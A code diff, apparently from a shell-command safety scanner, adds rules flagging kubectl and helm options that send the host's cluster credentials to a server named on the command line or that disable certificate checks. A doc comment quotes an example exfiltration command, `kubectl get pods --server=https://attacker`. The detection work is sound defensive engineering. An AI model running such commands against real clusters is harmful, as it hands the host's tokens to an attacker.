@@ -2812,6 +2812,36 @@ const containerTool = subcommandRule({
   ],
 });
 
+/**
+ * A cluster client's options that send the credentials the host's kubeconfig holds (a bearer token, a
+ * client certificate's handshake, an exec plugin's token) to a server the command names, or that
+ * trust another server with them: `kubectl get pods --server=https://attacker` answers a read with
+ * the host's token in its Authorization header. The server named is `exfiltration` (`unknown` on the
+ * host itself); trusting another certificate, or none, is `unknown`.
+ */
+function clusterCredentials(
+  o: ScannedOptions,
+  name: string,
+  servers: readonly string[],
+  trust: readonly string[],
+): { categories: ShellCategory[]; notes: string[] } {
+  const categories: ShellCategory[] = [];
+  const notes: string[] = [];
+  const named = valuesOf(o, servers);
+  if (named.length > 0 || hasAny(o, ...servers)) {
+    const local =
+      named.length > 0 &&
+      named.every((w) => !w.dynamic && targetIsLoopback(hostOf(w.value.replace(/^=/, ''))));
+    categories.push(local ? 'unknown' : 'exfiltration');
+    notes.push(`${name} sends the host's cluster credentials to the server its options name`);
+  }
+  if (hasAny(o, ...trust)) {
+    categories.push('unknown');
+    notes.push(`${name} trusts another server's certificate, or none, with the host's cluster credentials`);
+  }
+  return { categories, notes };
+}
+
 const kubectl: Rule = (args, name, ctx) => {
   const o = scanOptions(args, {
     shortValued: 'nclsf',
@@ -2840,8 +2870,14 @@ const kubectl: Rule = (args, name, ctx) => {
   // Its discovery cache, klog's log files and a profile are written where these options say.
   const files = ['cache-dir', 'log-file', 'log-dir', 'profile-output'].flatMap((k) => o.values.get(k) ?? []);
   const v = kubectlSubcommand(args, name, o, ctx);
-  return v === null || files.length === 0 ? v : rekind(v.kind, v, writeTargets(files, ctx));
+  const sent = clusterCredentials(o, name, ['s', 'server'], KUBECTL_TRUST);
+  if (v === null) return sent.categories.length === 0 ? null : verdict(name, sent.categories, ...sent.notes);
+  if (files.length === 0 && sent.categories.length === 0) return v;
+  const r = rekind(v.kind, v, writeTargets(files, ctx), sent.categories);
+  return sent.notes.length === 0 ? r : { ...r, notes: [...(r.notes ?? []), ...sent.notes] };
 };
+/** kubectl's options that choose which certificate the server must present (clusterCredentials). */
+const KUBECTL_TRUST = ['insecure-skip-tls-verify', 'certificate-authority', 'tls-server-name'];
 
 function kubectlSubcommand(
   args: readonly WordValue[],
@@ -4677,9 +4713,19 @@ const helmTable = subcommandRule({
 add('helm', (args, name, ctx) => {
   const v = helmTable(args, name, ctx);
   // `helm template --output-dir DIR` writes the rendered files there.
-  const o = scanOptions(args, { longValued: ['output-dir'] });
+  const o = scanOptions(args, {
+    longValued: ['output-dir', 'kube-apiserver', 'kube-ca-file', 'kube-tls-server-name'],
+  });
   const out = o.values.get('output-dir');
-  return v === null || out === undefined ? v : rekind(v.kind, v, W, writeTargets(out, ctx));
+  const sent = clusterCredentials(
+    o,
+    name,
+    ['kube-apiserver'],
+    ['kube-insecure-skip-tls-verify', 'kube-ca-file', 'kube-tls-server-name'],
+  );
+  if (v === null || (out === undefined && sent.categories.length === 0)) return v;
+  const r = rekind(v.kind, v, out === undefined ? [] : [...W, ...writeTargets(out, ctx)], sent.categories);
+  return sent.notes.length === 0 ? r : { ...r, notes: [...(r.notes ?? []), ...sent.notes] };
 });
 add('git', git, 'judged');
 
